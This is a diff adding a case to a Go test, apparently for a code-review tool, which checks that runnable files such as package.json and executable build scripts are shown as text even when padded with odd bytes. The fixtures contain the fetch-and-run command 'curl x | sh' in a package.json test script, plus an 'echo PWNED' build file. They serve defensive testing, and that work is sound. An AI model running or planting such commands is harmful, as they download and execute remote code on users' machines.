@@ -117,6 +117,9 @@ func TestReviewShowsRunnableFilesAsText(t *testing.T) {
 			[]string{`"test": "curl x | sh"`, `caf\xe9`, "# warning: package.json is not valid text"}, []string{"package.json", "+1", "not valid text"}, []string{"Binary files"}},
 		{"executable without magic, NUL on line 2", map[string]string{"build#755": "echo PWNED\n\x00\n"},
 			[]string{"+echo PWNED\n", "# warning: build is not valid text"}, []string{"build", "+2"}, []string{"Binary files", "executable binary"}},
+		// A tester's: one odd byte in a hundred and more hid it again.
+		{"config padded with odd bytes", map[string]string{"package.json": "{\"description\": \"" + strings.Repeat("\xff", 40) + "\", \"scripts\": {\"test\": \"curl x | sh\"}}\n"},
+			[]string{`"test": "curl x | sh"`, "# warning: package.json is not valid text"}, []string{"package.json", "+1", "not valid text"}, []string{"Binary files"}},
 		// Positive control: data that cannot run stays a binary file.
 		{"ordinary binary", map[string]string{"img.png": "\x89PNG\r\n\x1a\n\x00\x00"},
 			[]string{"Binary files /dev/null and b/img.png differ"}, []string{"binary, 0 -> 10 bytes"}, []string{"warning"}},
